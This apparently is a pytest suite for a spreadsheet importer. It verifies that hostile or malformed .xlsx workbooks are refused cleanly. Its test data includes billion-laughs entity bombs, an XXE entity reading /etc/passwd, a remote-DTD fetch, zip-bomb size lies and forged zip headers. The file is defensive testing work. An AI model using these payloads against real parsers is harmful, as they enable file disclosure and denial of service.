"""Hostile and wrong workbooks are refused with one clear message, never a traceback, and
nothing is written.

The corpus is built here from a real export of the demo workspace by rewriting its zip parts
(no binary files are committed): document type and entity declarations in every kind of part,
invalid character references, XML openpyxl cannot parse, zip parts whose sizes, checksums,
flags or compression lie, merged cells, TRUE where a number or a label belongs, and a workbook
with 49,000 problems (shown as the first hundred and a count of the rest)."""
import io
import re
import struct
import warnings
import zipfile

import pytest
from openpyxl import load_workbook
from wbtools import col_of, demo_copy, edit, load, row_of, save

from aims.common.validate import ValidationError
from aims.store import db
from aims.workbook import export, importer, package, registry
from aims.workbook import problems as listing

GAP = "Gap Analysis"


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    """(connection, workspace id, exported workbook): shared, since no case may write anything."""
    con, ws_id, _ = demo_copy(tmp_path_factory.mktemp("hostile"), tmp_path_factory)
    yield con, ws_id, export.build(con, ws_id)
    con.close()


@pytest.fixture(scope="module")
def gap_part(demo):
    return part_of(demo[2], GAP)


def snapshot(con) -> dict:
    """Row counts of every workspace table and of the change log (every write logs a change)."""
    with db.reading(con) as cur:
        tables = db.workspace_tables(cur) + ["workspace", "change_log"]
        return {t: cur.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in tables}   # trusted names


def refused(con, ws_id, data, *fragments) -> list[str]:
    """Plan and apply both raise ValidationError naming every fragment; the database is unchanged."""
    before = snapshot(con)
    with pytest.raises(ValidationError) as err:
        importer.plan(con, ws_id, data)
    with pytest.raises(ValidationError):
        importer.apply(con, ws_id, data, db_path=":memory:")
    text = "\n".join(err.value.problems)
    for f in fragments:
        assert f in text, text
    assert "Traceback" not in text
    assert snapshot(con) == before
    return err.value.problems


# ---- rewriting a workbook's zip ------------------------------------------------------------------

def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def rezip(files: dict[str, bytes], method=zipfile.ZIP_DEFLATED, methods: dict | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, body in files.items():
            z.writestr(name, body, compress_type=(methods or {}).get(name, method))
    return buf.getvalue()


def rewrite(data: bytes, name: str, fn) -> bytes:
    files = parts(data)
    files[name] = fn(files[name])
    return rezip(files)


def part_of(data: bytes, sheet: str) -> str:
    """The zip part holding a sheet ('xl/worksheets/sheet3.xml')."""
    wb = load_workbook(io.BytesIO(data), read_only=True)
    try:
        return wb[sheet]._worksheet_path.lstrip("/")
    finally:
        wb.close()


def shared_strings(data: bytes) -> bytes:
    """The workbook with its text cells moved to xl/sharedStrings.xml, as Excel saves them."""
    files, strings, index = parts(data), [], {}

    def shared(m):
        if m.group(2) not in index:
            index[m.group(2)] = len(strings)
            strings.append(m.group(2))
        return m.group(1).replace(b't="inlineStr"', b't="s"') + b"<v>%d</v></c>" % index[m.group(2)]
    for name in [n for n in files if n.startswith("xl/worksheets/sheet")]:
        files[name] = re.sub(rb'(<c [^>]*t="inlineStr"[^>]*>)<is>(<t[^>]*>.*?</t>)</is></c>', shared, files[name],
                             flags=re.DOTALL)
    files["xl/sharedStrings.xml"] = (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                                     + b"".join(b"<si>" + s + b"</si>" for s in strings) + b"</sst>")
    files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    files["xl/_rels/workbook.xml.rels"] = files["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                             b'relationships/sharedStrings" Target="/xl/sharedStrings.xml" Id="rIdS"/></Relationships>')
    return rezip(files)


def _entry(data: bytearray, name: str) -> tuple[int, int]:
    """(central directory entry offset, local header offset) of a part."""
    pos = 0
    while True:
        cd = data.find(b"PK\x01\x02", pos)
        if cd < 0:
            raise KeyError(name)
        length = struct.unpack("<H", data[cd + 28:cd + 30])[0]
        if bytes(data[cd + 46:cd + 46 + length]).decode() == name:
            return cd, struct.unpack("<I", data[cd + 42:cd + 46])[0]
        pos = cd + 4


def patch_header(data: bytes, name: str, *, size=None, packed=None, crc=None, flags=None, method=None) -> bytes:
    """The zip with a part's header fields changed in both the central directory and its local header."""
    b = bytearray(data)
    cd, local = _entry(b, name)
    for field, cd_at, local_at, fmt in (("flags", 8, 6, "<H"), ("method", 10, 8, "<H"), ("crc", 16, 14, "<I"),
                                        ("packed", 20, 18, "<I"), ("size", 24, 22, "<I")):
        value = {"size": size, "packed": packed, "crc": crc, "flags": flags, "method": method}[field]
        if value is not None:
            n = struct.calcsize(fmt)
            b[cd + cd_at:cd + cd_at + n] = struct.pack(fmt, value)
            b[local + local_at:local + local_at + n] = struct.pack(fmt, value)
    return bytes(b)


def scramble(data: bytes, name: str) -> bytes:
    """The zip with bytes of a part's compressed stream flipped."""
    b = bytearray(data)
    _, local = _entry(b, name)
    start = local + 30 + sum(struct.unpack("<HH", b[local + 26:local + 30]))
    for i in range(start + 10, start + 60):
        b[i] ^= 0x55
    return bytes(b)


def prolog(declaration: bytes, cell: tuple[bytes, bytes] | None = None):
    """A rewrite putting `declaration` before a part's root element (and optionally using it in a cell)."""
    def fn(body: bytes) -> bytes:
        if body.startswith(b"<?xml"):
            body = body[body.index(b"?>") + 2:]
        if cell:
            body = body.replace(cell[0], cell[1], 1)
        return b'<?xml version="1.0" encoding="UTF-8"?>' + declaration + body
    return fn


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10)) + b"]>")
XXE = b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
REMOTE_DTD = b'<!DOCTYPE w [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>'
DOCTYPE = "declares a document type"
SHEET_UNREADABLE = f"the sheet '{GAP}' could not be read"


# ---- document types and entities -------------------------------------------------------------------

@pytest.mark.parametrize("declaration, cell", [
    (LAUGHS, (b"<t>Ref</t>", b"<t>&lol9;</t>")),           # a billion laughs, used in the heading
    (LAUGHS, None),                                         # declared, never used
    (XXE, (b"<t>Ref</t>", b"<t>&xxe;</t>")),               # an external entity reading a local file
    (REMOTE_DTD, None),                                     # a parameter entity fetching a remote DTD
    (b'<!DOCTYPE worksheet [<!ENTITY who "Someone else">]>', (b"<t>Ref</t>", b"<t>&who;</t>")),
    (b"<!DOCTYPE worksheet>", None),                        # a bare document type
], ids=["billion-laughs", "unused-entities", "external-entity", "remote-dtd", "internal-entity", "bare-doctype"])
def test_a_document_type_in_a_sheet_is_refused(demo, gap_part, declaration, cell):
    con, ws_id, data = demo
    refused(con, ws_id, rewrite(data, gap_part, prolog(declaration, cell)),
            package.UNSAFE, f"its part '{gap_part}' {DOCTYPE}")


@pytest.mark.parametrize("part", ["xl/workbook.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels",
                                  "_rels/.rels", "xl/styles.xml", "docProps/core.xml", "xl/theme/theme1.xml"])
def test_a_document_type_in_any_part_is_refused(demo, part):
    con, ws_id, data = demo
    refused(con, ws_id, rewrite(data, part, prolog(XXE)), package.UNSAFE, f"its part '{part}' {DOCTYPE}")


def test_a_document_type_in_the_export_record_is_refused(demo):
    con, ws_id, data = demo
    record = part_of(data, export.RECORD_SHEET)
    refused(con, ws_id, rewrite(data, record, prolog(LAUGHS)), f"its part '{record}' {DOCTYPE}")


def test_a_document_type_in_the_shared_strings_is_refused(demo):
    con, ws_id, data = demo
    saved = shared_strings(data)
    assert not importer.plan(con, ws_id, saved).has_changes     # the Excel-style copy itself imports
    refused(con, ws_id, rewrite(saved, "xl/sharedStrings.xml", prolog(LAUGHS, (b"<t>Ref</t>", b"<t>&lol9;</t>"))),
            f"its part 'xl/sharedStrings.xml' {DOCTYPE}")


def test_a_document_type_in_utf16_or_after_a_long_comment_is_still_found(demo, gap_part):
    con, ws_id, data = demo
    utf16 = rewrite(data, gap_part, lambda b: ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "Ref">]>'
                                               + b.decode().replace("<t>Ref</t>", "<t>&a;</t>", 1)).encode("utf-16"))
    refused(con, ws_id, utf16, DOCTYPE)
    padded = rewrite(data, gap_part, prolog(b"<!--" + b" " * (3 << 20) + b"-->" + XXE))   # beyond the first chunks
    refused(con, ws_id, padded, DOCTYPE)


def test_an_entity_declared_without_a_document_type_is_not_xml_the_app_reads(demo, gap_part):
    con, ws_id, data = demo
    refused(con, ws_id, rewrite(data, gap_part, lambda b: b.replace(b"<t>Ref</t>", b"<t>&undefined;</t>", 1)),
            package.UNSAFE, SHEET_UNREADABLE, "undefined entity")


# ---- invalid character references and XML openpyxl cannot read ---------------------------------------

@pytest.mark.parametrize("reference", [b"&#0;", b"&#xFFFF;", b"&#xD800;", b"&#x110000;"])
def test_an_invalid_character_reference_is_refused(demo, gap_part, reference):
    con, ws_id, data = demo
    refused(con, ws_id, rewrite(data, gap_part, lambda b: b.replace(b"<t>Ref</t>", b"<t>Ref" + reference + b"</t>", 1)),
            package.UNSAFE, SHEET_UNREADABLE, "reference to invalid character number")


def test_an_invalid_character_reference_in_the_shared_strings_is_refused(demo):
    con, ws_id, data = demo
    bad = rewrite(shared_strings(data), "xl/sharedStrings.xml", lambda b: b.replace(b"<t>Ref</t>", b"<t>&#0;</t>", 1))
    refused(con, ws_id, bad, package.UNSAFE, "the workbook could not be read", "invalid character")


def _cell(sheet_xml: bytes, ref: str) -> bytes:
    return re.search(rb'<c r="' + ref.encode() + rb'"[^>]*>.*?</c>', sheet_xml, re.DOTALL).group(0)


@pytest.mark.parametrize("case, change, message", [
    ("truncated", lambda b: b[:b.rindex(b">", 0, len(b) // 2) + 1], "no element found"),   # after a whole tag
    ("not XML", lambda b: b"this is not XML", "is not well-formed XML"),
    ("duplicate attribute", lambda b: b.replace(b'<c r="D2"', b'<c t="b" r="D2"', 1), "duplicate attribute"),
    ("text in a number", lambda b: b.replace(_cell(b, "N2"), b'<c r="N2" t="n"><v>abc</v></c>', 1), SHEET_UNREADABLE),
    ("impossible date", lambda b: b.replace(_cell(b, "N2"), b'<c r="N2" t="d"><v>2027-99-99</v></c>', 1),
     SHEET_UNREADABLE),
    ("column beyond Excel", lambda b: b.replace(b'<c r="N2"', b'<c r="ZZZZZ2"', 1), "not a valid column name"),
    ("row number as text", lambda b: b.replace(b'<row r="2"', b'<row r="two"', 1), SHEET_UNREADABLE),
    ("row number in the billions", lambda b: b.replace(b'<row r="2"', b'<row r="99999999999"', 1),
     "has rows below row 100,010"),
])
def test_sheet_xml_openpyxl_cannot_read_is_refused(demo, gap_part, case, change, message):
    con, ws_id, data = demo
    refused(con, ws_id, rewrite(data, gap_part, change), message)


def test_a_shared_string_that_does_not_exist_is_refused(demo, gap_part):
    con, ws_id, data = demo
    bad = rewrite(shared_strings(data), gap_part, lambda b: b.replace(b't="s"><v>', b't="s"><v>99999', 1))
    refused(con, ws_id, bad, SHEET_UNREADABLE, "IndexError")


def test_a_damaged_export_record_or_styles_part_is_refused(demo):
    con, ws_id, data = demo
    record = part_of(data, export.RECORD_SHEET)
    refused(con, ws_id, rewrite(data, record, lambda b: b[:len(b) // 2]), f"the sheet '{export.RECORD_SHEET}' could not")
    refused(con, ws_id, rewrite(data, "xl/styles.xml", lambda b: b.replace(b'numFmtId="', b'numFmtId="x', 1)),
            "the workbook could not be read")


@pytest.mark.parametrize("missing", ["xl/_rels/workbook.xml.rels", "[Content_Types].xml"])
def test_a_workbook_missing_a_part_is_refused(demo, missing):
    con, ws_id, data = demo
    refused(con, ws_id, rezip({n: b for n, b in parts(data).items() if n != missing}), "could not be read", missing)


# ---- the zip itself ------------------------------------------------------------------------------------

def test_a_part_larger_than_its_header_says_is_refused(demo, gap_part):
    """A zip bomb's trick: a small declared size passes the size check, the real one is huge."""
    con, ws_id, data = demo
    bomb = rewrite(data, gap_part, lambda b: b.replace(b"</sheetData>", b"</sheetData><!--" + b"A" * (20 << 20) + b"-->"))
    real = zipfile.ZipFile(io.BytesIO(bomb)).getinfo(gap_part).file_size
    refused(con, ws_id, patch_header(bomb, gap_part, size=90_000), package.UNSAFE, f"its part '{gap_part}' is damaged",
            "recorded size or checksum")
    assert real > 20 << 20


def test_a_part_smaller_than_its_header_says_is_refused(demo, gap_part):
    con, ws_id, data = demo
    real = zipfile.ZipFile(io.BytesIO(data)).getinfo(gap_part).file_size
    refused(con, ws_id, patch_header(data, gap_part, size=200_000_000),
            f"its part '{gap_part}' holds {real:,} bytes but its header says 200,000,000")


@pytest.mark.parametrize("case, damage, message", [
    ("wrong checksum", lambda d, p: patch_header(d, p, crc=1234), "recorded size or checksum is wrong"),
    ("wrong compressed size", lambda d, p: patch_header(d, p, packed=100), "recorded size or checksum is wrong"),
    ("damaged stream", scramble, "recorded size or checksum is wrong"),
    ("encrypted part", lambda d, p: patch_header(d, p, flags=1), "is encrypted"),
    ("unknown method", lambda d, p: patch_header(d, p, method=99), "compressed with a method Excel does not use"),
    ("bzip2 part", lambda d, p: rezip(parts(d), methods={p: zipfile.ZIP_BZIP2}),
     "compressed with a method Excel does not use"),
])
def test_a_part_whose_header_lies_or_is_damaged_is_refused(demo, gap_part, case, damage, message):
    con, ws_id, data = demo
    refused(con, ws_id, damage(data, gap_part), package.UNSAFE, f"'{gap_part}'", message)


def test_two_parts_of_one_name_are_refused(demo, gap_part):
    con, ws_id, data = demo
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        warnings.simplefilter("ignore")                     # zipfile warns of the duplicate name it writes
        for name, body in parts(data).items():
            z.writestr(name, body)
        z.writestr(gap_part, b"<worksheet/>")
    refused(con, ws_id, buf.getvalue(), f"it holds two parts named '{gap_part}'")


def test_a_zip_cut_short_and_one_with_too_many_parts_are_refused(demo, monkeypatch):
    con, ws_id, data = demo
    refused(con, ws_id, data[: len(data) * 2 // 3], "damaged or not an .xlsx workbook (it cannot be unzipped)")
    monkeypatch.setattr(package, "MAX_PARTS", 20)
    refused(con, ws_id, data, package.UNSAFE, "parts; an Excel workbook holds a few hundred at most")


def test_a_workbook_whose_parts_unpack_to_too_much_is_refused(demo, monkeypatch):
    con, ws_id, data = demo
    monkeypatch.setattr(importer, "MAX_UNPACKED", sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist()) - 1)
    refused(con, ws_id, data, "The workbook unpacks to")


def test_the_safety_checks_leave_an_honest_workbook_alone(demo):
    con, ws_id, data = demo
    checked = package.check(data, importer.MAX_UNPACKED)
    assert "xl/workbook.xml" in checked.parts
    merged_sheets = {n for n, refs in checked.merges.items() if refs}
    assert merged_sheets == {part_of(data, "Summary"), part_of(data, "Risk Heatmap")}   # read-only sheets only
    assert not importer.plan(con, ws_id, data).has_changes


# ---- merged cells ---------------------------------------------------------------------------------

def test_merged_ids_are_refused_never_imported_as_new_rows(demo):
    """Merging two risk IDs keeps only the first: the second row would read as a new risk."""
    con, ws_id, data = demo
    wb = load(data)
    ws = wb["Risks"]
    first = row_of(ws, "R-001")
    ws.merge_cells(start_row=first, start_column=1, end_row=first + 1, end_column=1)
    refused(con, ws_id, save(wb), "Sheet 'Risks': cells", f"A{first}:A{first + 1}", "are merged", "Unmerge them")


def test_merged_cells_elsewhere_in_an_importable_sheet_are_refused_too(demo):
    con, ws_id, data = demo
    wb = load(data)
    ws = wb[GAP]
    column = col_of(ws, "Notes")
    ws.merge_cells(start_row=2, start_column=column, end_row=4, end_column=column)
    refused(con, ws_id, save(wb), f"Sheet '{GAP}': cells", "are merged")


# ---- TRUE where a number or a label is expected -------------------------------------------------------

def test_true_in_the_maturity_column_is_refused_not_read_as_1(demo):
    con, ws_id, data = demo
    refused(con, ws_id, edit(data, GAP, "4.1", "Maturity", True),
            f"Sheet '{GAP}', row 2, column 'Maturity': holds TRUE (a true/false value) where one of: 0 None")


def _columns_by_kind() -> dict[str, tuple]:
    """For each column kind that holds a number, date, ID or label: (sheet, column) of one editable column."""
    found = {}
    for sheet in registry.importable():
        for col in sheet.columns:
            if col.editable and col.field != sheet.key and col.kind not in ("bool", "text", "long"):
                found.setdefault(col.kind, (sheet, col))
    return found


def test_true_or_false_is_refused_in_every_number_date_id_and_label_column(demo):
    con, ws_id, data = demo
    kinds = _columns_by_kind()
    assert {"int", "date", "choice", "code", "maturity", "refs"} <= set(kinds)
    wb = load(data)
    for n, (sheet, col) in enumerate(kinds.values()):
        ws = wb[sheet.name]
        ws.cell(row=2, column=col_of(ws, col.header)).value = bool(n % 2)
    problems = refused(con, ws_id, save(wb))
    for sheet, col in kinds.values():
        assert any(f"Sheet '{sheet.name}', row 2, column '{col.header}': holds " in p
                   and "(a true/false value) where" in p for p in problems), (col.header, problems)


def test_true_in_a_free_text_column_reads_as_excel_shows_it(demo):
    con, ws_id, data = demo
    p = importer.plan(con, ws_id, edit(data, GAP, "4.1", "Owner", True))
    row = p.sheets[0].changed[0]
    assert row.changes["owner"][1] == "TRUE"


# ---- a workbook with 49,000 problems ---------------------------------------------------------------

def with_unknown_rows(data: bytes, sheet_part: str, count: int, first_row: int = 72) -> bytes:
    """The workbook with `count` rows of unknown IDs below the Gap Analysis table (one problem each)."""
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>X-{r}</t></is></c></row>'
                   for r in range(first_row, first_row + count))
    return rewrite(data, sheet_part, lambda b: b.replace(b"</sheetData>", rows.encode() + b"</sheetData>", 1))


def test_49000_problems_are_all_kept_but_only_the_first_hundred_are_listed(demo, gap_part):
    con, ws_id, data = demo
    problems = refused(con, ws_id, with_unknown_rows(data, gap_part, 49_000), "unknown ID 'X-72'")
    assert len(problems) == 49_000
    shown = listing.first(problems)
    assert shown[:100] == problems[:100] and len(shown) == 101
    assert shown[-1] == "... and 48,900 more problems"
    assert listing.more(problems) == 48_900
    assert listing.to_csv(problems).decode("utf-8-sig").count("\r\n") == 49_001     # heading + every problem


def test_a_short_list_is_shown_whole():
    assert listing.first(["one", "two"]) == ["one", "two"]
    assert listing.first([f"p{i}" for i in range(101)])[-1] == "... and 1 more problem"
    assert listing.more(["one"]) == 0
